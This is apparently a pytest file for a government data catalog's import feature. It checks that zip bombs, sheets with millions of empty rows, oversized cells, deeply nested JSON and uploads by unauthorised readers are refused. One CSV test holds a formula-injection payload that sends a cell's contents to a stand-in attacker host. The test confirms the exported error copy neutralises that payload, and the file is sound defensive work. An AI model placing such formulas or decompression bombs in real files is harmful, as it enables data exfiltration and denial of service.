"""Hostile import files are refused or cut short at once, with a Russian message naming the limit
(finding 7 of the security issue), and readers cannot fill the disk through uploads (finding 12)."""
from __future__ import annotations

import io
import json
import time

import pytest
from sqlalchemy import func, select

from catalog import models
from catalog.errors import LimitExceeded
from catalog.services.imports.records import IMPORTERS
from catalog.services.imports.register import RegisterImporter
from tests.hostile_files import shared_strings_bomb, sheet_with_rows
from tests.test_import_register import good_rows, make_register, situations  # noqa: F401 (a fixture)


@pytest.fixture
def register(tmp_path, seed, situations):
    return make_register(tmp_path / "реестр.xlsx", good_rows())


def run_register(ctx, path, **options):
    return RegisterImporter(ctx, path, "MINSOC", **options).run()


def processes(ctx) -> int:
    ctx.session.rollback()
    return ctx.session.scalar(select(func.count(models.Process.id)))


# --- finding 7: bounded readers --------------------------------------------------------------


def test_shared_strings_that_inflate_to_a_gigabyte_are_refused_from_the_zip_directory(ctx, register, tmp_path):
    bomb = shared_strings_bomb(register, tmp_path / "бомба.xlsx", inflated=1 << 30)
    assert bomb.stat().st_size < 1_200_000
    started = time.perf_counter()
    with pytest.raises(LimitExceeded) as refused:
        run_register(ctx, bomb)
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    message = refused.value.message
    assert "xl/sharedStrings.xml" in message and "1024 МБ" in message and "CATALOG_IMPORT_MAX_XLSX_PART_MB" in message


def test_a_part_compressed_past_the_ratio_is_refused(ctx, register, tmp_path):
    bomb = shared_strings_bomb(register, tmp_path / "бомба.xlsx", inflated=64 << 20)
    with pytest.raises(LimitExceeded) as refused:
        run_register(ctx, bomb)
    assert "CATALOG_IMPORT_MAX_XLSX_RATIO" in refused.value.message


def test_twenty_million_empty_rows_are_not_walked_and_the_report_says_so(ctx, register, tmp_path):
    hostile = sheet_with_rows(register, tmp_path / "пустые.xlsx", empty_rows=20_000_000, data_after=True)
    assert hostile.stat().st_size < 1_000_000
    started = time.perf_counter()
    report = run_register(ctx, hostile, dry_run=True)
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    assert report.created == 2 and report.updated == 1 and not report.errors
    assert any("после строки 7 больше 1000 пустых строк подряд" in note for note in report.notes)


def test_a_sheet_of_twenty_million_empty_rows_says_no_header_in_a_second(ctx, seed, tmp_path):
    from openpyxl import Workbook

    from catalog.errors import InvalidInput

    book = Workbook()
    book.active.title = "Реестр"
    book.active["A1"] = "РЕЕСТР ПРОЦЕССОВ"
    book.save(tmp_path / "заголовок.xlsx")
    hostile = sheet_with_rows(tmp_path / "заголовок.xlsx", tmp_path / "пусто.xlsx", empty_rows=20_000_000)
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as refused:
        run_register(ctx, hostile)
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    assert "не найдена строка заголовков" in refused.value.message


def test_a_row_far_below_the_data_is_reached_without_walking_the_gap(ctx, register, tmp_path):
    hostile = sheet_with_rows(register, tmp_path / "разрыв.xlsx", gap_to=20_000_000)
    started = time.perf_counter()
    report = run_register(ctx, hostile, dry_run=True)
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    assert report.created == 2 and not report.errors
    assert any("строки с 20000000 не прочитаны" in note for note in report.notes)


def test_a_declared_dimension_past_the_row_limit_is_refused_before_reading(ctx, register, tmp_path):
    hostile = sheet_with_rows(register, tmp_path / "размер.xlsx", dimension="A1:K20000000")
    with pytest.raises(LimitExceeded) as refused:
        run_register(ctx, hostile)
    assert "объявлено строк 19999996" in refused.value.message
    assert "лист «Реестр»" in refused.value.message and "CATALOG_IMPORT_MAX_ROWS" in refused.value.message


def test_rows_columns_and_cells_past_the_limits_are_refused_with_where(ctx, seed, situations, tmp_path):
    ctx.settings.import_max_rows = 2
    with pytest.raises(LimitExceeded) as rows:
        run_register(ctx, make_register(tmp_path / "строки.xlsx", good_rows()))
    assert "объявлено строк 3" in rows.value.message and "не более 2" in rows.value.message
    assert processes(ctx) == 1  # nothing written
    ctx.settings.import_max_rows = 200_000
    ctx.settings.import_max_cell_chars = 1000  # openpyxl itself cuts what it writes at Excel's 32 767
    long_name = good_rows()
    long_name[0][1] = "я" * 4000
    with pytest.raises(LimitExceeded) as cell:
        run_register(ctx, make_register(tmp_path / "ячейка.xlsx", long_name))
    assert "строка 5, столбец C: в ячейке 4\u00a0000\u00a0символов" in cell.value.message
    wide = [row + ["лишнее"] * 300 for row in good_rows()]
    with pytest.raises(LimitExceeded) as columns:
        run_register(ctx, make_register(tmp_path / "столбцы.xlsx", wide))
    assert "CATALOG_IMPORT_MAX_COLUMNS" in columns.value.message


def csv_of(path, rows):
    path.write_text("\n".join(";".join(row) for row in rows), encoding="utf-8")
    return path


SYSTEM_HEADER = ["Наименование ИС", "Вид системы", "Стадия", "Оператор (код органа)"]
SYSTEM = ["региональная гис", "в эксплуатации", "MINSOC"]


def test_csv_is_streamed_within_the_same_limits(ctx, seed, tmp_path):
    importer = IMPORTERS["systems"]
    ctx.settings.import_max_rows = 100
    many = csv_of(tmp_path / "много.csv", [SYSTEM_HEADER] + [[f"Система {n}", *SYSTEM] for n in range(150_000)])
    started = time.perf_counter()
    with pytest.raises(LimitExceeded) as rows:
        importer(ctx, many).run()
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    assert "«много.csv», строка 102" in rows.value.message
    huge = csv_of(tmp_path / "ячейка.csv", [SYSTEM_HEADER, ["я" * 200_000, *SYSTEM]])
    with pytest.raises(LimitExceeded) as cell:
        importer(ctx, huge).run()
    assert "строка 2" in cell.value.message and "CATALOG_IMPORT_MAX_CELL_CHARS" in cell.value.message
    tail = csv_of(tmp_path / "хвост.csv", [SYSTEM_HEADER, ["Система", *SYSTEM]] + [[""]] * 5000 + [["Ещё", *SYSTEM]])
    report = importer(ctx, tail, dry_run=True).run()
    assert report.created == 1 and any("дальше файл не читался" in note for note in report.notes)


def test_the_upload_page_refuses_a_bomb_at_once_and_keeps_nothing(app, client, seed, make_user, login, register,
                                                                  tmp_path):
    make_user("editor", ["agency_editor"], [seed.agency.id])
    login("editor")
    bomb = shared_strings_bomb(register, tmp_path / "бомба.xlsx")
    started = time.perf_counter()
    response = client.post("/import/", data={"kind": "register", "agency": "MINSOC", "action": "check",
                                             "file": (io.BytesIO(bomb.read_bytes()), "бомба.xlsx")},
                           content_type="multipart/form-data")
    assert time.perf_counter() - started < 10  # the old reader took minutes; a loaded machine may be slow
    assert response.status_code == 413
    assert "CATALOG_IMPORT_MAX_XLSX_PART_MB" in response.get_data(as_text=True)
    folder = app.config["CATALOG"].instance_path / "imports"
    assert not [p for p in folder.glob("*") if p.suffix == ".xlsx"]


# --- finding 7: OpenLineage -------------------------------------------------------------------


def ol_event(inputs: int = 1) -> dict:
    return {"eventType": "COMPLETE", "eventTime": "2024-05-01T10:00:00+03:00",
            "run": {"runId": "3f5e83fa-3480-44ff-99c5-ff943904e5e8"},
            "job": {"namespace": "dbt", "name": "load"},
            "inputs": [{"namespace": "pg", "name": f"t{n}"} for n in range(inputs)], "outputs": [],
            "producer": "https://example.invalid/p", "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json"}


@pytest.fixture
def pipeline(app, seed, make_user, token_for):
    app.config["CATALOG"].openlineage_agency = "MINSOC"
    return {**token_for(make_user("pipeline", ["agency_editor"], [seed.agency.id])), "Content-Type": "application/json"}


def test_an_event_with_200000_inputs_is_refused_before_any_work(client, ctx, pipeline):
    started = time.perf_counter()
    response = client.post("/api/v1/lineage", data=json.dumps(ol_event(200_000)), headers=pipeline)
    assert time.perf_counter() - started < 15  # refused before parsing: well under this on any machine
    assert response.status_code == 413
    body = response.get_json()
    assert "200000 наборов данных" in body["error"] and "CATALOG_OPENLINEAGE_MAX_DATASETS" in body["error"]
    ctx.session.rollback()
    assert ctx.session.scalar(select(func.count(models.Dataset.id))) == 1


def test_deep_json_and_large_facets_are_refused(client, pipeline):
    deep = ol_event()
    nested: dict = {}
    deep["run"]["facets"] = {"x": nested}
    for _ in range(100):
        nested["a"] = {}
        nested = nested["a"]
    response = client.post("/api/v1/lineage", data=json.dumps(deep), headers=pipeline)
    assert response.status_code == 413 and "CATALOG_IMPORT_MAX_JSON_DEPTH" in response.get_json()["error"]
    very_deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    response = client.post("/api/v1/lineage", data=very_deep, headers=pipeline)
    assert response.status_code == 413
    big = ol_event()
    big["run"]["facets"] = {"note": {"_producer": "p", "_schemaURL": "s", "text": "я" * 2_000_000}}
    response = client.post("/api/v1/lineage", data=json.dumps(big), headers=pipeline)
    assert response.status_code == 413 and "CATALOG_OPENLINEAGE_MAX_FACETS_KB" in response.get_json()["error"]


def test_a_lineage_file_with_too_many_events_is_refused(runner, app, ctx, seed, tmp_path, monkeypatch):
    monkeypatch.setenv("CATALOG_OPENLINEAGE_MAX_EVENTS", "3")
    monkeypatch.setenv("CATALOG_OPENLINEAGE_AGENCY", "MINSOC")
    path = tmp_path / "events.ndjson"
    path.write_text("\n".join(json.dumps(ol_event()) for _ in range(10)), encoding="utf-8")
    result = runner.invoke("import", "openlineage", str(path))
    assert result.exit_code != 0
    assert "строка 4: событий больше допустимого (не более 3, CATALOG_OPENLINEAGE_MAX_EVENTS)" in result.output


# --- finding 12: readers do not fill the disk ------------------------------------------------


def upload_page(client, path, **form):
    return client.post("/import/", content_type="multipart/form-data",
                       data={"kind": "register", "agency": "MINSOC", "action": "import", **form,
                             "file": (io.BytesIO(path.read_bytes()), path.name)})


def kept(app) -> list:
    folder = app.config["CATALOG"].instance_path / "imports"
    return sorted(p.name for p in folder.glob("*")) if folder.exists() else []


def test_a_reader_gets_403_on_upload_and_nothing_is_written(app, client, seed, make_user, login, token_for,
                                                             register):
    reader = make_user("reader", ["reader"])
    login("reader")
    assert client.get("/import/").status_code == 403
    response = upload_page(client, register)
    assert response.status_code == 403
    assert "Недостаточно прав" in response.get_data(as_text=True)
    api = app.test_client().post("/api/v1/imports/register", headers=token_for(reader),
                                 content_type="multipart/form-data",
                                 data={"agency": "MINSOC", "file": (io.BytesIO(register.read_bytes()), "r.xlsx")})
    assert api.status_code == 403
    anonymous = app.test_client().post("/api/v1/imports/register", content_type="multipart/form-data",
                                       data={"agency": "MINSOC", "file": (io.BytesIO(register.read_bytes()), "r.xlsx")})
    assert anonymous.status_code == 401
    assert kept(app) == []


def test_old_upload_files_are_removed_on_the_next_upload(app, client, seed, make_user, login, register):
    import os

    folder = app.config["CATALOG"].instance_path / "imports"
    folder.mkdir(parents=True, exist_ok=True)
    old = time.time() - 25 * 3600
    for name in ("0123abcd.xlsx", "0123abcd.json", "0123abcd-errors.xlsx"):
        (folder / name).write_text("{}")
        os.utime(folder / name, (old, old))
    (folder / "4567cdef.xlsx").write_text("recent")
    make_user("editor", ["agency_editor"], [seed.agency.id])
    login("editor")
    upload_page(client, register)
    names = kept(app)
    assert not [n for n in names if n.startswith("0123abcd")]
    assert "4567cdef.xlsx" in names


def test_the_cleanup_keeps_files_for_the_hours_set(app):
    import os

    from catalog.services import uploads

    settings = app.config["CATALOG"]
    folder = uploads.folder(settings)
    (folder / "89ab.csv").write_text("x")
    os.utime(folder / "89ab.csv", (time.time() - 3 * 3600,) * 2)
    settings.import_keep_hours = 4
    assert uploads.cleanup(settings) == 0
    settings.import_keep_hours = 2
    assert uploads.cleanup(settings) == 1 and kept(app) == []


def test_a_user_past_the_quota_of_kept_files_is_refused(app, client, seed, make_user, login, tmp_path):
    from tests.test_import_register import BAD_ROWS

    app.config["CATALOG"].import_quota_files = 4
    make_user("editor", ["agency_editor"], [seed.agency.id])
    login("editor")
    bad = make_register(tmp_path / "плохой.xlsx", BAD_ROWS)
    for _ in range(2):  # each refused file is kept with its error copy, for the user to fetch
        assert upload_page(client, bad).status_code == 422
    response = upload_page(client, bad)
    assert response.status_code == 429
    assert "CATALOG_IMPORT_QUOTA_FILES" in response.get_data(as_text=True)
    assert len([n for n in kept(app) if not n.endswith(".json")]) == 4


# --- CSV error copies: formulas neutralised, loaded back unchanged ---------------------------


def test_a_csv_error_copy_marks_formulas_as_text_and_loads_back_unchanged(ctx, seed, tmp_path):
    import csv as csv_module

    formula = '=HYPERLINK("http://evil.example/?d="&B5;"x")'
    source = tmp_path / "системы.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv_module.writer(handle, delimiter=";")
        writer.writerow(SYSTEM_HEADER)
        writer.writerow([formula, "региональная гис", "непонятная стадия", "MINSOC"])
        writer.writerow(["-вторая система", *SYSTEM])
    importer = IMPORTERS["systems"](ctx, source)
    report = importer.run()
    assert report.refused_whole
    copy = importer.error_copy(tmp_path / "системы-ошибки.csv")
    with copy.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv_module.reader(handle, delimiter=";"))
    assert rows[1][0] == "'" + formula and rows[2][0] == "'-вторая система"  # no spreadsheet runs them
    fixed = copy.read_text(encoding="utf-8-sig").replace("непонятная стадия", "в эксплуатации")
    copy.write_text(fixed, encoding="utf-8")
    again = IMPORTERS["systems"](ctx, copy).run()
    assert again.written and again.created == 2, again.lines()
    ctx.session.rollback()
    names = set(ctx.session.scalars(select(models.InformationSystem.name)))
    assert {formula, "-вторая система"} <= names


def test_the_upload_link_is_offered_only_to_those_who_may_upload(app, client, seed, make_user, login):
    upload_link = '<a href="/import/">Загрузка</a>'
    assert upload_link not in client.get("/").get_data(as_text=True)  # anonymous
    make_user("reader", ["reader"])
    login("reader")
    assert upload_link not in client.get("/").get_data(as_text=True)
    other = app.test_client()
    make_user("social", ["agency_editor"], agency_ids=[seed.agency.id])
    other.post("/login", data={"login": "social", "password": "пароль-тест"})
    assert upload_link in other.get("/").get_data(as_text=True)
